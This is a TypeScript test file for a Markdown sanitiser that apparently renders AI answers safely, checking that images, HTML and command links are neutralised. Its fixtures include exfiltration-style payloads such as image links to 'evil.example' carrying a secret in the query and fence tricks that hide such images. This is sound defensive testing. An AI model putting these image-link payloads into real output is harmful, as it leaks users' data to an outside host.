import assert from "node:assert/strict";
import { escapeMarkdown, messageText, safeMarkdown } from "../../../src/host/safeMarkdown";

describe("safe Markdown", () => {
  it("leaves ordinary answers alone", () => {
    const text =
      "`sum` adds **all** prices, if `a < b`.\n\n```ts\nconst a: Map<string, T> = ![x][0];\n```\n\n- one\n- [two](https://example.com)";
    assert.equal(safeMarkdown(text), text);
  });

  it("defuses pictures, which would be fetched", () => {
    for (const text of [
      "![x](https://evil.example/?q=secret)",
      "![x][ref]\n\n[ref]: https://evil.example",
      "a ![](x) b",
    ]) {
      assert.ok(!safeMarkdown(text).includes("!["), text);
    }
  });

  it("defuses HTML, also where it would hide a picture behind a fence", () => {
    const text = "<!--\n```\n-->\n![x](https://evil.example)\n```";
    assert.ok(!/<[a-z!/?]/i.test(safeMarkdown(text)));
    assert.ok(!/<[a-z!/?]/i.test(safeMarkdown('<img src="https://evil.example">')));
  });

  it("treats an indented or quoted fence as text", () => {
    assert.ok(!safeMarkdown("> ```\n![x](https://evil.example)").includes("!["));
    assert.ok(!safeMarkdown("    ```\n![x](https://evil.example)").includes("!["));
  });

  it("ends code at a closing fence that is long enough, and not before", () => {
    assert.ok(safeMarkdown("````\n```\n![in code][0]\n````").includes("!["));
    assert.ok(!safeMarkdown("```\ncode\n```\n![x](https://evil.example)").includes("!["));
    assert.ok(!safeMarkdown("~~~\ncode\n~~~~\n![x](https://evil.example)").includes("!["));
  });

  it("closes the code of an answer that is still coming", () => {
    assert.equal(safeMarkdown("```ts\nconst a"), "```ts\nconst a\n```");
  });
});

describe("text of a message", () => {
  it("holds no link", () => {
    assert.equal(messageText("a [b](command:c)"), "a [b]\u200b(command:c)");
  });
});

describe("escaped Markdown", () => {
  it("escapes all that Markdown or HTML would act on, and keeps spaces", () => {
    const text = "# *a* _b_ `c` [d](e) ![f](g) <h> & $(icon) https://example.com";
    const escaped = escapeMarkdown(text);
    assert.ok(escaped.includes("\\*a\\* "));
    assert.ok(!/(?<!\\)[*_`[\]<>&$]/.test(escaped), escaped);
  });

  it("keeps line breaks and indentation", () => {
    assert.equal(escapeMarkdown("a\n  b"), "a  \n&nbsp;&nbsp;b");
  });
});
